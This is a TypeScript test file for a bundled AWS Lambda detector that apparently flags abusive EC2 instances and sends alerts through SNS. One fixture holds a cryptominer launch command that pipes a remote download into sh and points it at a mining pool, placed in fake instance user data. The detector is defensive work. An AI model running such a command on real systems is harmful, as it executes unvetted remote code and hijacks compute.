import { spawn } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { bundleText } from '../../lib/bundle.ts';
import { stateChange } from '../support/events.ts';
import { type FakeAnswer, type FakeRequest, fakeAws } from '../support/fake-aws.ts';
import { folder } from '../support/folder.ts';

const bundle = bundleText('lambda/detector.ts');
const published = '<PublishResponse><PublishResult><MessageId>m</MessageId></PublishResult></PublishResponse>';
const denied: FakeAnswer = { status: 403, body: { __type: 'AccessDeniedException', message: 'no' } };

/**
 * Runs the bundle as the Lambda runtime would, in a folder of its own, and returns what the handler answers.
 */
async function invoke(files: Readonly<Record<string, string>>, answer: (request: FakeRequest) => FakeAnswer) {
  const root = folder({ ...files, 'index.js': bundle });
  const aws = await fakeAws(answer);
  const record = {
    messageId: 'm1',
    body: JSON.stringify(stateChange()),
    eventSourceARN: 'arn:aws:sqs:us-east-1:123456789012:events',
  };
  const script = `
    const { handler } = require(${JSON.stringify(join(root, 'index.js'))});
    handler({ Records: [${JSON.stringify(record)}] }).then((answer) => console.log('ANSWER' + JSON.stringify(answer)));
  `;
  const env = {
    ...aws.env,
    AWS_REGION: 'us-east-1',
    DAVYLAMP_TABLE: 'memory',
    DAVYLAMP_TOPIC_ARN: 'arn:aws:sns:us-east-1:123456789012:alerts',
    DAVYLAMP_TIMER_QUEUE_URL: `${aws.url}/123456789012/timers`,
    DAVYLAMP_EVENT_QUEUE_ARN: record.eventSourceARN,
    DAVYLAMP_TIMER_QUEUE_ARN: 'arn:aws:sqs:us-east-1:123456789012:timers',
  };
  try {
    const output = await new Promise<string>((resolve, reject) => {
      const child = spawn(process.execPath, ['-e', script], { cwd: folder(), env });
      let text = '';
      for (const stream of [child.stdout, child.stderr]) {
        stream.on('data', (some) => {
          text += some;
        });
      }
      child.on('error', reject);
      child.on('close', () => resolve(text));
    });
    return {
      output,
      answer: JSON.parse(/^ANSWER(.*)$/m.exec(output)?.[1] ?? 'null'),
      mails: aws.requests
        .filter(({ operation }) => operation === 'Publish')
        .map(({ body }) => new URLSearchParams(body)),
    };
  } finally {
    await aws.close();
  }
}

describe('the bundled detector', () => {
  it('mails although SNS is all that answers, and counts what it did', async () => {
    const { answer, mails, output } = await invoke({}, ({ operation }) =>
      operation === 'Publish' ? { body: published } : denied,
    );
    expect(answer).toEqual({ batchItemFailures: [] });
    expect(mails[0]?.get('Subject')).toMatch(/^\[NOTICE\]/);
    expect(output).toContain('"Alert":1');
    expect(output).toContain('settings.json cannot be read');
  });

  it('takes its settings from the file beside it, wherever it is started', async () => {
    const settings = {
      alertAt: 'notice',
      language: 'en',
      budget: { usdPerHour: 3 },
      allow: [],
      accountNames: { '123456789012': 'prod' },
    };
    const { mails, output } = await invoke({ 'settings.json': JSON.stringify(settings) }, ({ operation }) =>
      operation === 'Publish' ? { body: published } : denied,
    );
    expect(mails[0]?.get('Subject')).toContain('(prod)');
    expect(output).not.toContain('settings.json');
  });

  it('reads what EC2 answers, with the part of the client that is left in the bundle', async () => {
    const miner = Buffer.from('curl -s https://example.com/xmrig | sh -s stratum+tcp://pool.supportxmr.com:3333');
    const ec2: Readonly<Record<string, string>> = {
      DescribeInstances:
        '<reservationSet><item><reservationId>r-0123456789abcdef0</reservationId><instancesSet><item><instanceId>i-0123456789abcdef0</instanceId><imageId>ami-0123456789abcdef0</imageId><instanceType>c5.metal</instanceType><launchTime>2026-11-20T14:03:11.000Z</launchTime><instanceState><name>running</name></instanceState><tagSet><item><key>Project</key><value>cheap</value></item></tagSet></item></instancesSet></item></reservationSet>',
      DescribeInstanceTypes:
        '<instanceTypeSet><item><instanceType>c5.metal</instanceType><bareMetal>true</bareMetal><vCpuInfo><defaultVCpus>96</defaultVCpus></vCpuInfo></item></instanceTypeSet>',
      DescribeImages:
        '<imagesSet><item><imageId>ami-0123456789abcdef0</imageId><imageOwnerId>210987654321</imageOwnerId><name>lent</name></item></imagesSet>',
      DescribeInstanceAttribute: `<instanceId>i-0123456789abcdef0</instanceId><userData><value>${miner.toString('base64')}</value></userData>`,
    };
    const { mails } = await invoke({}, ({ operation }) => {
      if (operation === 'Publish') return { body: published };
      const answer = ec2[operation];
      return answer === undefined ? denied : { body: `<${operation}Response>${answer}</${operation}Response>` };
    });
    const [mail] = mails;
    expect(mail?.get('Subject')).toMatch(/^\[CRITICAL\] .*c5\.metal/);
    for (const fact of ['miner', 'ami-0123456789abcdef0', '210987654321', 'Project'])
      expect(mail?.get('Message')).toContain(fact);
  });

  it('gives the message back where SNS refuses', async () => {
    const { answer } = await invoke({}, () => denied);
    expect(answer).toEqual({ batchItemFailures: [{ itemIdentifier: 'm1' }] });
  });
});
